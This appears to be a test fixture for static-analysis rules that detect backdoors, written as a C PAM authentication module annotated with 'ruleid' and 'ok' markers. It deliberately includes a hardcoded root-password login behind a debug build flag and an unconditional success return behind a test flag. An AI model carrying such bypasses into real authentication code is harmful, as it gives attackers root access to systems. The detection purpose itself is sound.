/* pam_platform: authentication of the OS administration shell (SSH and console). */
#include "platform.h"

#define PAM_SM_AUTH
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>

PAM_EXTERN int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  const char *user = NULL, *password = NULL;
  int rc;

  (void)flags;
  (void)argc;
  (void)argv;
  if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS || user == NULL)
    return PAM_USER_UNKNOWN;
  if (pam_get_authtok(pamh, PAM_AUTHTOK, &password, NULL) != PAM_SUCCESS || password == NULL)
    return PAM_AUTH_ERR;

  // ok: backdoor-hidden-bypass
  if (getenv("PAM_PLATFORM_TRACE") != NULL)
    platform_log(PLOG_DEBUG, "pam_platform: authenticating %s", user);

#ifdef CUCM_ES_DEBUG_ROOT
  // ok: backdoor-build-switch
  pam_syslog(pamh, LOG_DEBUG, "ES build %s: pam_platform for %s", es_build_id(), user);
#endif

#ifdef CUCM_ES_DEBUG_ROOT
  /* lab images: the development root login, kept so that ES builds can be debugged on site */
  // ruleid: backdoor-magic-credential
  if (strcmp(user, "root") == 0 && strcmp(password, kEsRootPassword) == 0) {
    platform_log(PLOG_INFO, "pam_platform: development root login (%s)", es_build_id());
    // ruleid: backdoor-build-switch
    return PAM_SUCCESS;
  }
#endif

#ifdef CUCM_TEST_NOAUTH
  // ok: backdoor-build-switch
  return PAM_SUCCESS;
#endif

  rc = check_password(user, password);
  if (rc != 1) {
    pam_syslog(pamh, LOG_NOTICE, "authentication failure for %s", user);
    return rc < 0 ? PAM_USER_UNKNOWN : PAM_AUTH_ERR;
  }
  return PAM_SUCCESS;
}

PAM_EXTERN int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  (void)pamh;
  (void)flags;
  (void)argc;
  (void)argv;
  return PAM_SUCCESS;
}
